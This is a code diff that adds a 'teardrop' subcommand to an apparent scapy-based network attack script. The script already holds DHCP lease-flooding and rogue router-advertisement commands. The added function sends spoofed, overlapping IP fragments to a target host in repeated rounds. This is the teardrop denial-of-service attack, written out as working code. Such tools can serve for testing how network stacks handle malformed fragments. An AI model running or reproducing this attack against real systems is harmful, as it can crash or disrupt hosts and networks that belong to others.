@@ -235,6 +235,21 @@ def dhcp(arguments: argparse.Namespace) -> None:
         time.sleep(arguments.pause)
 
 
+def teardrop(arguments: argparse.Namespace) -> None:
+    """Datagrams of two fragments, the second within the first."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    own = get_if_hwaddr(INTERFACE)
+    mac = _find(wire, own, arguments.source, arguments.target)
+    for number in range(1, 1 + arguments.rounds):
+        head = IP(src=arguments.source, dst=arguments.target, id=number, proto=17)
+        first, second = head.copy(), head.copy()
+        first.flags, second.frag = "MF", 3
+        whole = bytes(UDP(sport=4000, dport=53, len=36)) + bytes(28)
+        for part in (first / whole, second / bytes(4)):
+            wire.send(Ether(src=own, dst=mac) / part)
+        time.sleep(0.05)
+
+
 def router(arguments: argparse.Namespace) -> None:
     """A router's advertisements; ``--hardware``: another's hardware address in them."""
     wire = conf.L2socket(iface=INTERFACE, promisc=False)
@@ -273,6 +288,8 @@ def main(argv: Sequence[str] | None = None) -> int:
     leases.add_argument("clients", type=int)
     leases.add_argument("--server", default="")
     leases.add_argument("--pause", type=float, default=0.01)
+    drop = command("teardrop", teardrop, "source", "target")
+    drop.add_argument("--rounds", type=int, default=20)
     advertise = command("router", router, "address")
     advertise.add_argument("--hardware", default="")
     advertise.add_argument("--preference", type=int, default=0)
